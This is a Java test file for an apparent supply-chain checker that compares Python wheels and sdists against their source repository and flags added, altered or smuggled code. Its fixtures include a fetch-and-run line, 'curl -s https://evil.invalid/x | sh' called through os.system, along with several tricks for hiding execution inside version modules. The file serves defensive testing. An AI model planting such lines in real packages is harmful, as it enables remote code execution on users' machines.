package dev.gatehouse.comparison;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.comparison.match.FileClass;
import dev.gatehouse.comparison.match.FileResult;
import dev.gatehouse.comparison.source.Revision;
import dev.gatehouse.findings.Status;
import dev.gatehouse.packaging.artifact.Sha256;
import dev.gatehouse.samples.SampleArtifact;
import dev.gatehouse.samples.SdistBuilder;
import dev.gatehouse.samples.WheelBuilder;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Objects;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Each class of file, by a file that is of it and one that only looks so. */
class ClassesTest extends ComparingTest {
  private static final String CORE = "def core():\n    return 1\n";
  private static final String AUTH = "def check(user):\n    return user.is_known\n";
  private static final String EVIL =
      "import os\nos.system('curl -s https://evil.invalid/x | sh')\n__version__ = '1.0'\n";

  @BeforeEach
  void writeTheRepository() throws IOException {
    repository
        .file(
            "pyproject.toml",
            """
            [project]
            name = "acme"
            dynamic = ["version"]
            dependencies = ["idna>=3", "Typing_Extensions; python_version<'3.11'"]

            [project.scripts]
            acme = "acme.cli:main"
            """)
        .file("LICENSE", "Permission is hereby granted, free of charge, to everybody. ".repeat(9))
        .file(
            "vendored/LICENSE", "Redistribution in any form is permitted, if you like. ".repeat(9))
        .file("src/acme/__init__.py", "from .core import core\n")
        .file("src/acme/core.py", CORE)
        .file("src/acme/auth.py", AUTH)
        .file("src/acme/cli.py", "def main():\n    print('acme')\n")
        .file("tests/acme_fake.py", "def check(user):\n    return True\n")
        .release("v1.0");
  }

  private static WheelBuilder wheel() {
    return WheelBuilder.wheel("acme", "1.0")
        .file("acme/__init__.py", "from .core import core\n")
        .file("acme/core.py", CORE)
        .file("acme/cli.py", "def main():\n    print('acme')\n");
  }

  private static WheelBuilder whole() {
    return wheel().file("acme/auth.py", AUTH);
  }

  @Test
  void callsAWheelCleanThatIsTheTag() throws IOException {
    Comparison comparison = compare(whole().build());

    assertClean(comparison);
    assertThat(comparison.report().status()).isEqualTo(Status.CLEAN);
    assertThat(comparison.revision()).extracting(Revision::name).isEqualTo("v1.0");
    assertThat(comparison.decided()).isEqualTo("it is the tag of this version (4 of 4)");
    assertThat(file(comparison, "acme/core.py").counterpart()).isEqualTo("src/acme/core.py");
    assertThat(comparison.counts())
        .containsEntry(FileClass.IDENTICAL, 4)
        .containsEntry(FileClass.METADATA, 3);
  }

  @Test
  void callsAnSdistCleanThatIsTheTag() throws IOException {
    SdistBuilder sdist = SdistBuilder.sdist("acme", "1.0");
    repository
        .file("acme/__init__.py", "__version__ = \"1.0\"\n")
        .file("sample_backend.py", "import zipfile\n")
        .file("pyproject.toml", "[project]\n")
        .release("1.0.post1");
    SampleArtifact artifact =
        sdist
            .file("sample_backend.py", "import zipfile\n")
            .file("pyproject.toml", "[project]\n")
            .file("src/acme/core.py", CORE)
            .build();

    Comparison comparison = compare(artifact, repository.folder(), "1.0.post1");

    assertThat(file(comparison, "acme-1.0/src/acme/core.py").type()).isEqualTo(FileClass.IDENTICAL);
    assertThat(comparison.problems()).isEmpty();
    assertThat(comparison.coverage().ofBytes()).isEqualTo(1);
  }

  @Test
  void comparesWithAPlainFolderAndABundleAlike() throws IOException {
    Path folder = repository.writeTo(Files.createDirectory(temporary.resolve("plain")));
    Path bundle = repository.bundle(temporary.resolve("acme.bundle"));

    assertClean(compare(whole().build(), folder, null));
    assertClean(compare(whole().build(), bundle, null));
  }

  @Test
  void tellsWhatChanged() throws IOException {
    String changed = AUTH.replace("user.is_known", "True");

    Comparison comparison = compare(wheel().file("acme/auth.py", changed).build());

    FileResult file = file(comparison, "acme/auth.py");
    assertThat(file.type()).isEqualTo(FileClass.MODIFIED);
    assertThat(file.diff()).contains("-    return user.is_known", "+    return True");
    assertThat(comparison.report().findings().getFirst())
        .satisfies(
            found -> {
              assertThat(found.rule()).isEqualTo(ComparisonRules.MODIFIED_CODE);
              assertThat(found.line()).isEqualTo(2);
              assertThat(found.evidence()).isEqualTo("return True");
            });
  }

  @Test
  void knowsByNameWhatAFileIsHeldAgainstWhereAllAreChanged() throws IOException {
    Comparison comparison =
        compare(WheelBuilder.wheel("acme", "1.0").file("acme/core.py", CORE + "#\n").build());

    assertThat(file(comparison, "acme/core.py").type()).isEqualTo(FileClass.MODIFIED);
    assertThat(file(comparison, "acme/core.py").counterpart()).isEqualTo("src/acme/core.py");
  }

  @Test
  void tellsWhatWasAddedWithWhatTheInspectionSaysOfIt() throws IOException {
    Comparison comparison = compare(whole().file("acme/extra.py", EVIL).build());

    assertThat(file(comparison, "acme/extra.py").type()).isEqualTo(FileClass.ADDED);
    assertThat(rules(comparison)).contains("compare-added-code high acme/extra.py");
  }

  @Test
  void refusesAStartUpFileThatNoCommitHas() throws IOException {
    Comparison comparison = compare(whole().file("acme.pth", "import acme\n").build());

    assertThat(comparison.report().findings().getFirst())
        .satisfies(
            found -> {
              assertThat(found.rule()).isEqualTo(ComparisonRules.STARTUP_FILE);
              assertThat(found.blocking()).isTrue();
              assertThat(found.path()).isEqualTo("acme.pth");
            });
    assertThat(rules(comparison)).contains("startup-pth-import high acme.pth");
  }

  @Test
  void doesNotTakeTheCodeOfTestsForThatOfThePackage() throws IOException {
    String fake = "def check(user):\n    return True\n";

    Comparison beside = compare(whole().file("acme/fake.py", fake).build());
    Comparison instead = compare(wheel().file("acme/auth.py", fake).build());

    assertThat(file(beside, "acme/fake.py").type()).isEqualTo(FileClass.MOVED);
    assertThat(file(beside, "acme/fake.py").counterpart()).isEqualTo("tests/acme_fake.py");
    assertThat(rules(beside)).isEqualTo("compare-moved medium acme/fake.py\n");
    assertThat(file(instead, "acme/auth.py").type()).isEqualTo(FileClass.MODIFIED);
    assertThat(file(instead, "acme/auth.py").reason())
        .isEqualTo("has the bytes of tests/acme_fake.py instead");
  }

  @Test
  void findsWhichCommitAFileIsFrom() throws IOException {
    repository.file("src/acme/auth.py", "def check(user):\n    return user.is_safe\n");
    String later = repository.commit();
    repository.file("src/acme/auth.py", AUTH).commit();

    Comparison comparison =
        compare(
            wheel().file("acme/auth.py", "def check(user):\n    return user.is_safe\n").build());

    FileResult file = file(comparison, "acme/auth.py");
    assertThat(file.type()).isEqualTo(FileClass.OTHER_COMMIT);
    assertThat(file.reason()).contains(later.substring(0, 12));
    assertThat(rules(comparison)).isEqualTo("compare-other-commit low acme/auth.py\n");
  }

  @Test
  void saysWhatIsMissing() throws IOException {
    Comparison comparison = compare(wheel().build());

    assertThat(file(comparison, "src/acme/auth.py").type()).isEqualTo(FileClass.MISSING);
    assertThat(rules(comparison)).isEqualTo("compare-missing info\n");
  }

  @Test
  void countsNativeCodeApartAndNeverAsProved() throws IOException {
    byte[] library = new byte[2000];
    System.arraycopy(new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0}, 0, library, 0, 8);
    library[16] = 3;

    Comparison comparison =
        compare(whole().file("acme/_fast.so", library).tags("cp312-cp312-linux_x86_64").build());

    assertThat(file(comparison, "acme/_fast.so").type()).isEqualTo(FileClass.NATIVE);
    assertThat(comparison.coverage().nativeFiles()).isEqualTo(1);
    assertThat(comparison.coverage().files()).isEqualTo(4);
    assertThat(rules(comparison)).contains("compare-unverified info");
  }

  @Test
  void takesABundleForBuiltAndAScriptForAdded() throws IOException {
    String bundle = "var a=1;" + "a+=1;".repeat(200);

    Comparison comparison =
        compare(whole().file("acme/app.js", bundle).file("acme/bundle.min.js", "x()\n").build());

    assertThat(file(comparison, "acme/app.js").type()).isEqualTo(FileClass.BUILT);
    assertThat(file(comparison, "acme/bundle.min.js").type()).isEqualTo(FileClass.ADDED);
  }

  @Test
  void knowsWhatProtocMakesByItsShape() throws IOException {
    repository.file("protos/acme.proto", "message A {}\n").commit();
    repository.tag("v2.0");
    String generated =
        """
        # -*- coding: utf-8 -*-
        # Generated by the protocol buffer compiler.  DO NOT EDIT!
        from google.protobuf import descriptor as _descriptor
        from google.protobuf import descriptor_pool as _descriptor_pool
        from google.protobuf.internal import builder as _builder
        DESCRIPTOR = _descriptor_pool.Default().AddSerializedFile(b'\\n\\nacme.proto')
        _globals = globals()
        _builder.BuildMessageAndEnumDescriptors(DESCRIPTOR, _globals)
        if not _descriptor._USE_C_DESCRIPTORS:
          DESCRIPTOR._loaded_options = None
        """;
    WheelBuilder built =
        WheelBuilder.wheel("acme", "2.0")
            .file("acme/core.py", CORE)
            .file("acme/acme_pb2.py", generated);
    WheelBuilder fake =
        WheelBuilder.wheel("acme", "2.0")
            .file("acme/core.py", CORE)
            .file("acme/acme_pb2.py", generated + "_descriptor.os.system('true')\n");

    assertThat(file(compare(built.build()), "acme/acme_pb2.py").type()).isEqualTo(FileClass.BUILT);
    assertThat(file(compare(fake.build()), "acme/acme_pb2.py").type()).isEqualTo(FileClass.ADDED);
  }

  /** As setuptools-scm 8, hatch-vcs, pdm, numpy's meson and versioneer write them. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        """
        # file generated by setuptools-scm
        __all__ = ["__version__", "version_tuple", "__commit_id__"]
        TYPE_CHECKING = False
        if TYPE_CHECKING:
            from typing import Tuple, Union
            VERSION_TUPLE = Tuple[Union[int, str], ...]
        else:
            VERSION_TUPLE = object
        version: str
        __version__: str
        version_tuple: VERSION_TUPLE
        __version__ = version = '1.0'
        __version_tuple__ = version_tuple = (1, 0)
        __commit_id__ = 'g1234abcd5'
        """,
        "__version__ = \"1.0\"\n",
        """
        version = "1.0"
        __version__ = version
        git_revision = "0123456789012345678901234567890123456789"
        release = 'dev' not in version and '+' not in version
        short_version = version.split("+")[0]
        """,
        """
        # This file was generated by 'versioneer.py' (0.29)
        import json

        version_json = '''
        {
         "date": "2026-01-01T00:00:00+0000",
         "dirty": false,
         "error": null,
         "full-revisionid": "0123456789012345678901234567890123456789",
         "version": "1.0"
        }
        '''  # END VERSION_JSON


        def get_versions():
            return json.loads(version_json)
        """,
      })
  void provesAModuleThatStatesTheVersionWhateverItIsCalled(String module) throws IOException {
    Comparison comparison = compare(whole().file("acme/whatever.py", module).build());

    assertThat(file(comparison, "acme/whatever.py").type()).isEqualTo(FileClass.GENERATED);
    assertClean(comparison);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "__version__ = \"2.0\"\n",
        "__version__ = \"1.0\"\nURL = 'https://evil.invalid/'\n",
        "__version__ = \"1.0\"\nimport os\n",
        "__version__ = print('1.0')\n",
        "__version__ = '1.0'\n__version__.__class__\n",
        "from typing import get_type_hints as str\n__version__ = str('1.0')\n",
        "__version__ = '1.0'\nx = [y for y in ().__class__.__base__.__subclasses__()]\n",
        "# -*- coding: utf-7 -*-\n__version__ = '1.0'\n",
        "__version__ = '1.0'\nx: __import__('os').system('true') = 1\n",
        "__version__ = '1.0'\n@print\ndef f(): pass\n",
        "__version__ = '1.0'\ndef get_versions(x=print('1.0')):\n    return x\n",
        """
        import json
        j = '''
        {
         "version": "1.0"
        }
        '''
        def get_versions():
            return json.loads(print(j))
        """,
      })
  void doesNotTakeAModuleForAVersionThatDoesMore(String module) throws IOException {
    Comparison comparison = compare(whole().file("acme/_version.py", module).build());

    assertThat(file(comparison, "acme/_version.py").type()).isEqualTo(FileClass.ADDED);
  }

  @Test
  void provesWhatIsMadeOfATemplate() throws IOException {
    repository
        .file("src/acme/config.py.in", "VERSION = '@VERSION@'\nURL = 'https://acme.invalid'\n")
        .file("src/acme/about.py", "NAME = 'acme'\nVERSION = '0.0.0'\n\ndef f():\n    pass\n")
        .release("v2.0");
    WheelBuilder good =
        WheelBuilder.wheel("acme", "2.0")
            .file("acme/core.py", CORE)
            .file("acme/config.py", "VERSION = '2.0'\nURL = 'https://acme.invalid'\n")
            .file("acme/about.py", "NAME = 'acme'\nVERSION = '2.0'\n\ndef f():\n    pass\n");
    WheelBuilder bad =
        WheelBuilder.wheel("acme", "2.0")
            .file("acme/core.py", CORE)
            .file("acme/config.py", "VERSION = '2.0'\nURL = 'https://evil.invalid'\n")
            .file("acme/about.py", "NAME = 'acme'\nVERSION = ''+f()+''\n\ndef f():\n    pass\n");

    Comparison proved = compare(good.build());
    Comparison found = compare(bad.build());

    assertThat(file(proved, "acme/config.py").counterpart()).isEqualTo("src/acme/config.py.in");
    assertThat(file(proved, "acme/config.py").type()).isEqualTo(FileClass.GENERATED);
    assertThat(file(proved, "acme/about.py").type()).isEqualTo(FileClass.GENERATED);
    assertThat(file(found, "acme/config.py").type()).isEqualTo(FileClass.MODIFIED);
    assertThat(file(found, "acme/config.py").diff()).contains("+URL = 'https://evil.invalid'");
    assertThat(file(found, "acme/about.py").type()).isEqualTo(FileClass.MODIFIED);
  }

  @Test
  void showsTheSettingsThatABuildPutsIntoATemplate() throws IOException {
    repository
        .file("src/acme/config.py.in", "COMPILER = '@CC@'\nFLAGS = r\"@FLAGS@\"\nSIZE = @SIZE@\n")
        .file("src/acme/config.h.in", "#mesondefine HAVE_IT\n#mesondefine SIZE\n")
        .file("src/acme/acme.pc.in", "prefix=@prefix@\nlibs=-lacme\n")
        .release("v2.0");

    Comparison good =
        compare(
            WheelBuilder.wheel("acme", "2.0")
                .file("acme/core.py", CORE)
                .file("acme/config.py", "COMPILER = 'gcc'\nFLAGS = r\"-O2 -g\"\nSIZE = @SIZE@\n")
                .file("acme/config.h", "#define HAVE_IT\n/* #undef SIZE */\n")
                .file("acme/acme.pc", "prefix=/usr/lib; all\nlibs=-lacme\n")
                .build());
    Comparison bad =
        compare(
            WheelBuilder.wheel("acme", "2.0")
                .file("acme/core.py", CORE)
                .file("acme/config.py", "COMPILER = 'gcc'\nFLAGS = r\"-O2\"\nSIZE = evil()\n")
                .file("acme/config.h", "#define OTHER\n/* #undef SIZE */\n")
                .file("acme/acme.pc", "prefix=/usr\nlibs=-levil\n")
                .build());

    assertThat(rules(good).lines())
        .containsExactlyInAnyOrder(
            "compare-build-settings medium acme/config.py",
            "compare-build-settings medium acme/config.h",
            "compare-build-settings medium acme/acme.pc",
            "compare-missing info");
    assertThat(good.files())
        .filteredOn(file -> file.type() == FileClass.MISSING)
        .extracting(FileResult::path)
        .noneMatch(path -> path.endsWith(".in"));
    assertThat(file(good, "acme/config.py").diff()).contains("+FLAGS = r\"-O2 -g\"");
    assertThat(good.coverage().provedFiles()).isEqualTo(1);
    assertThat(rules(bad).lines())
        .containsExactlyInAnyOrder(
            "compare-modified-code high acme/config.py",
            "compare-modified-data medium acme/config.h",
            "compare-modified-data medium acme/acme.pc",
            "compare-missing info");
  }

  @Test
  void knowsThePackageThatMaturinPutsAroundAModuleOfMachineCode() throws IOException {
    String wrapper =
        """
        from .fast import *

        __doc__ = fast.__doc__
        if hasattr(fast, "__all__"):
            __all__ = fast.__all__""";
    repository.file("src/fast.pyi", "def run() -> int: ...\n").release("v2.0");
    Comparison good = compare(aroundMachineCode().file("fast/__init__.py", wrapper).build());
    Comparison bad =
        compare(aroundMachineCode().file("fast/__init__.py", wrapper + "\nfast.run()\n").build());

    assertThat(file(good, "fast/__init__.py").type()).isEqualTo(FileClass.GENERATED);
    assertThat(file(good, "fast/__init__.pyi").counterpart()).isEqualTo("src/fast.pyi");
    assertThat(file(good, "acme-2.0.dist-info/sboms/acme.cyclonedx.json").type())
        .isEqualTo(FileClass.BUILT);
    assertThat(file(bad, "fast/__init__.py").type()).isEqualTo(FileClass.ADDED);
  }

  private static WheelBuilder aroundMachineCode() {
    return WheelBuilder.wheel("acme", "2.0")
        .file("acme/core.py", CORE)
        .file("fast/__init__.pyi", "def run() -> int: ...\n")
        .file("fast/fast.abi3.so", "\177ELF-machine-code")
        .file("acme-2.0.dist-info/sboms/acme.cyclonedx.json", "{}");
  }

  @Test
  void findsBothFoldersThatAPackageIsPutTogetherOf() throws IOException {
    repository
        .file("headers/acme/one.h", "// one\n")
        .file("headers/acme/two.h", "// two\n")
        .file("headers/acme/three.h", "// three\n")
        .file("bind/__init__.py", "import os\n")
        .release("v2.0");

    Comparison comparison =
        compare(
            WheelBuilder.wheel("acme", "2.0")
                .file("bind/include/acme/one.h", "// one\n")
                .file("bind/include/acme/two.h", "// two\n")
                .file("bind/include/acme/three.h", "// three\n")
                .file("bind/__init__.py", "import os\n")
                .build());

    assertThat(file(comparison, "bind/__init__.py").type()).isEqualTo(FileClass.IDENTICAL);
    assertThat(file(comparison, "bind/include/acme/one.h").counterpart())
        .isEqualTo("headers/acme/one.h");
  }

  @Test
  void provesEmptyMarkersAndLicencesAndLineEnds() throws IOException {
    String licences =
        "Permission is hereby granted, free of charge, to everybody. ".repeat(9)
            + "\n\n----\n\nvendored\n\n"
            + "Redistribution in any form is permitted, if you like. ".repeat(9);

    Comparison comparison =
        compare(
            wheel()
                .file("acme/auth.py", AUTH.replace("\n", "\r\n"))
                .file("acme/py.typed", "")
                .file("acme/LICENSES.txt", licences)
                .file("acme-1.0.dist-info/licenses/LICENSE", licences)
                .build());

    assertClean(comparison);
    assertThat(comparison.counts()).containsEntry(FileClass.GENERATED, 4);
  }

  @Test
  void doesNotLetAVersionTakeThePlaceOfCode() throws IOException {
    Comparison emptied = compare(wheel().file("acme/auth.py", "").build());
    Comparison versioned = compare(wheel().file("acme/auth.py", "__version__ = '1.0'\n").build());

    assertThat(file(emptied, "acme/auth.py").type()).isEqualTo(FileClass.MODIFIED);
    assertThat(file(versioned, "acme/auth.py").type()).isEqualTo(FileClass.MODIFIED);
  }

  @Test
  void followsTheLinksOfARepositoryAndItsPointersToLargeFiles() throws IOException {
    byte[] model = "weights".getBytes(UTF_8);
    String oid = Sha256.digest(model).hex();
    repository
        .link("src/acme/linked", "../../shared")
        .file("shared/a.py", "A = []\n")
        .file(
            "src/acme/model.bin",
            "version https://git-lfs.github.com/spec/v1\noid sha256:%s\nsize 7\n".formatted(oid))
        .release("v2.0");
    WheelBuilder wheel =
        WheelBuilder.wheel("acme", "2.0")
            .file("acme/core.py", CORE)
            .file("acme/linked/a.py", "A = []\n")
            .file("acme/model.bin", model);

    Comparison comparison = compare(wheel.build());

    assertThat(file(comparison, "acme/linked/a.py").type()).isEqualTo(FileClass.IDENTICAL);
    assertThat(file(comparison, "acme/model.bin").type()).isEqualTo(FileClass.GENERATED);
  }

  @Test
  void saysThatASubmoduleWasNotCompared() throws IOException {
    repository.submodule("src/acme/vendor").release("v2.0");
    Comparison comparison =
        compare(
            WheelBuilder.wheel("acme", "2.0")
                .file("acme/core.py", CORE)
                .file("acme/vendor/x.py", EVIL)
                .build());

    assertThat(file(comparison, "acme/vendor/x.py").type()).isEqualTo(FileClass.NOT_COMPARED);
    assertThat(comparison.report().status()).isEqualTo(Status.INCOMPLETE);
  }

  @Test
  void doesNotFillTheReportWithWhatWasNotCompared() throws IOException {
    repository.submodule("src/acme/vendor").release("v2.0");
    WheelBuilder wheel = WheelBuilder.wheel("acme", "2.0").file("acme/core.py", CORE);
    for (int i = 0; i < 30; i++) {
      wheel.file("acme/vendor/m%d.py".formatted(i), "M = [%d]\n".formatted(i));
    }

    assertThat(compare(wheel.build()).problems())
        .extracting(problem -> problem.message())
        .contains("10 more files were not compared");
  }

  @Test
  void holdsEntryPointsAndDependenciesAgainstTheDeclaration() throws IOException {
    String declared = "[console_scripts]\nacme = acme.cli:main\n";
    Comparison good =
        compare(
            whole()
                .file("acme-1.0.dist-info/entry_points.txt", declared)
                .requiresDist("idna>=3")
                .requiresDist("typing-extensions; python_version < '3.11'")
                .build());
    Comparison bad =
        compare(
            whole()
                .file(
                    "acme-1.0.dist-info/entry_points.txt",
                    declared + "[pytest11]\nacme = acme.core:core\n")
                .requiresDist("acme-crypto")
                .build());

    assertClean(good);
    assertThat(rules(bad))
        .isEqualTo(
            """
            compare-dependency high acme-1.0.dist-info/METADATA
            compare-entry-point high acme-1.0.dist-info/entry_points.txt
            """);
  }

  /** As setuptools, virtualenv, Poetry and setup.cfg write the same command. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "setup(entry_points={'console_scripts': ['run = acme.cli:main', \"x=y:z\"]})\n",
        "[project]\nscripts.run = \"acme.cli:main\"\n",
        "[tool.poetry]\nscripts = { run = \"acme.cli:main\" }\n",
        "[options.entry_points]\nconsole_scripts =\n    run = acme.cli:main\n",
      })
  void readsADeclarationInAnyForm(String declaration) throws IOException {
    repository.file("pyproject.toml", declaration).release("v2.0");
    String declared = "[console_scripts]\nrun = acme.cli:main\n";
    WheelBuilder same =
        WheelBuilder.wheel("acme", "2.0")
            .file("acme/core.py", CORE)
            .file("acme-2.0.dist-info/entry_points.txt", declared);
    WheelBuilder longer =
        WheelBuilder.wheel("acme", "2.0")
            .file("acme/core.py", CORE)
            .file("acme-2.0.dist-info/entry_points.txt", declared + "un = acme.cli:main\n");

    assertThat(rules(compare(same.build()))).doesNotContain("entry-point");
    assertThat(rules(compare(longer.build())))
        .containsOnlyOnce("compare-entry-point high acme-2.0.dist-info/entry_points.txt");
  }

  @Test
  void computesTheRecordAnew() throws IOException {
    Comparison comparison =
        compare(
            whole()
                .omitFromRecord("acme/core.py")
                .falsifyRecord("acme/cli.py", "sha256=AAAA,3")
                .build());

    assertThat(rules(comparison)).contains("compare-record high acme-1.0.dist-info/RECORD");
  }

  @Test
  void findsAPackageInAMonorepoByItsFiles() throws IOException {
    repository
        .file("packages/beta/lib/beta/__init__.py", "B = [1]\n")
        .file("packages/beta/lib/beta/b.py", "B = [2]\n")
        .file("packages/beta/pyproject.toml", "[project]\ndependencies = ['idna']\n")
        .commit();
    repository.tag("beta-v3.1").tag("beta==3.1");

    Comparison comparison =
        compare(
            WheelBuilder.wheel("beta", "3.1")
                .file("beta/__init__.py", "B = [1]\n")
                .file("beta/b.py", "B = [2]\n")
                .requiresDist("idna")
                .build());

    assertClean(comparison);
    assertThat(comparison.decided()).startsWith("of 2 tags of this version");
  }

  @Test
  void findsAPackageThatHasAnotherNameInTheSource() throws IOException {
    repository.file("code/a.py", "A = [1]\n").file("code/b.py", "A = [2]\n").release("v4");

    assertClean(
        compare(
            WheelBuilder.wheel("acme", "4")
                .file("renamed/a.py", "A = [1]\n")
                .file("renamed/b.py", "A = [2]\n")
                .build()));
  }

  @Test
  void comparesNothingOfAnArchiveThatTwoReadersReadDifferently() throws IOException {
    Comparison comparison = compare(whole().rawEntry("acme/core.py", EVIL.getBytes(UTF_8)).build());

    assertThat(comparison.revision()).isNull();
    assertThat(rules(comparison)).contains("archive-");
    assertThat(comparison.problems())
        .singleElement()
        .satisfies(
            problem -> assertThat(problem.message()).startsWith("Was not compared: two tools"));
  }

  @Test
  void asksWhetherItIsTheRightRepository() throws IOException {
    WheelBuilder other = WheelBuilder.wheel("other", "1.0");
    for (int i = 0; i < 6; i++) {
      other.file("other/m%d.py".formatted(i), "M = [%d]\n".formatted(i));
    }

    Comparison comparison = compare(other.build());

    assertThat(comparison.report().status()).isEqualTo(Status.INCOMPLETE);
    assertThat(comparison.problems().getLast().message())
        .startsWith("Only 0 of its 6 files are in the source: is ");
  }

  @Test
  void saysWhatItCannotCompareWith() throws IOException {
    Comparison unknown = compare(whole().build(), repository.folder(), "v9");
    Comparison noWheel = compare(whole().build().named("acme.txt"));

    assertThat(Objects.requireNonNull(unknown.problems().getFirst().message()))
        .startsWith("Could not find the ref v9 in ");
    assertThat(noWheel.problems().getFirst().message())
        .isEqualTo("Could not be compared: a wheel or an sdist was expected, not acme.txt");
  }

  @Test
  void tellsOfAVersionWithoutATagWhereOthersHaveOne() throws IOException {
    repository.file("src/acme/core.py", CORE + "\n# more\n").commit();
    Comparison comparison =
        compare(
            WheelBuilder.wheel("acme", "1.1")
                .file("acme/core.py", CORE + "\n# more\n")
                .file("acme/auth.py", AUTH)
                .build());

    assertThat(comparison.revision()).extracting(Revision::name).isEqualTo("HEAD");
    assertThat(rules(comparison)).startsWith("compare-no-tag medium\n");
  }
}
